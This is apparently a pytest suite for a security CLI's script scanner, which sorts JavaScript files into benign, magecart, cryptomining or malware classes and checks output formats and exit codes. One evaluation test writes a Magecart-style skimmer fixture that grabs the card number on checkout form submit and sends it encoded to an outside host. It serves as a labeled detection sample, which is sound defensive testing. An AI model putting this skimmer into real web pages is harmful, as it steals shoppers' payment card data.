"""``scripts scan`` through a local Typer app: exact JSON lines, errors, directories."""

from __future__ import annotations

import json
from pathlib import Path

import typer
from typer.testing import CliRunner

from bastion.cli.scripts import scripts_app

app = typer.Typer()
app.add_typer(scripts_app, name="scripts")
runner = CliRunner()


def scan(*args: str) -> tuple[int, list[dict[str, object]]]:
    res = runner.invoke(app, ["scripts", "scan", *args])
    lines = [json.loads(line) for line in res.stdout.splitlines() if line.strip()]
    return res.exit_code, lines


def test_json_line_per_file_with_exact_keys(tmp_path: Path) -> None:
    (tmp_path / "a.js").write_text("function add(a, b) { return a + b; }\n")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "page.html").write_text(
        "<html><body><script>var x = 1;</script></body></html>"
    )
    (tmp_path / "bin.js").write_bytes(bytes(range(256)) * 40)
    (tmp_path / "notes.md").write_text("not scanned")
    code, lines = scan(str(tmp_path), "--json")
    assert code == 0
    by_path = {Path(str(o["path"])).name: o for o in lines}
    assert set(by_path) == {"a.js", "page.html", "bin.js"}
    ok = by_path["a.js"]
    assert list(ok) == ["path", "scores", "class"]
    scores = ok["scores"]
    assert isinstance(scores, dict)
    assert list(scores) == ["js_integrity", "magecart", "cryptomining", "malware"]
    assert all(isinstance(v, int) and 1 <= v <= 99 for v in scores.values())
    assert ok["class"] in ("benign", "magecart", "cryptomining", "malware")
    err = by_path["bin.js"]
    assert list(err) == ["path", "error"] and "binary" in str(err["error"])


def test_single_file_any_name(tmp_path: Path) -> None:
    f = tmp_path / "payload.bin"
    f.write_text("var a = 1;")
    code, lines = scan(str(f), "--json")
    assert code == 0 and len(lines) == 1 and lines[0]["path"] == str(f)


def test_human_output(tmp_path: Path) -> None:
    f = tmp_path / "x.js"
    f.write_text("var a = 1;")
    res = runner.invoke(app, ["scripts", "scan", str(f)])
    assert res.exit_code == 0
    assert res.stdout.startswith(f"{f}: benign (js_integrity ")


def test_missing_path_exits_2(tmp_path: Path) -> None:
    res = runner.invoke(app, ["scripts", "scan", str(tmp_path / "nope.js"), "--json"])
    assert res.exit_code == 2


def test_bad_model_exits_2(tmp_path: Path) -> None:
    f = tmp_path / "x.js"
    f.write_text("var a = 1;")
    bad = tmp_path / "m.npz"
    bad.write_bytes(b"junk")
    res = runner.invoke(app, ["scripts", "scan", str(f), "--model", str(bad)])
    assert res.exit_code == 2


def test_eval_on_labeled_directory(tmp_path: Path) -> None:
    (tmp_path / "benign" / "pkg").mkdir(parents=True)
    (tmp_path / "benign" / "pkg" / "a.js").write_text("export const sum = (a, b) => a + b;\n")
    (tmp_path / "magecart" / "fam").mkdir(parents=True)
    (tmp_path / "magecart" / "fam" / "s.js").write_text(
        "if (/checkout/.test(location.href)) { document.addEventListener('submit', function () {"
        " var d = document.querySelector('[name=\"payment[cc_number]\"]').value;"
        " new Image().src = 'https://stats-cdn.top/g.php?c=' + btoa(d); }); }"
    )
    out = tmp_path / "rep.json"
    res = runner.invoke(app, ["scripts", "eval", str(tmp_path), "--out", str(out)])
    assert res.exit_code == 0, res.stdout
    rep = json.loads(out.read_text())
    assert rep["held_out_real"]["benign_fp"]["n"] == 1
    assert rep["held_out_real"]["magecart_recall"]["n"] == 1
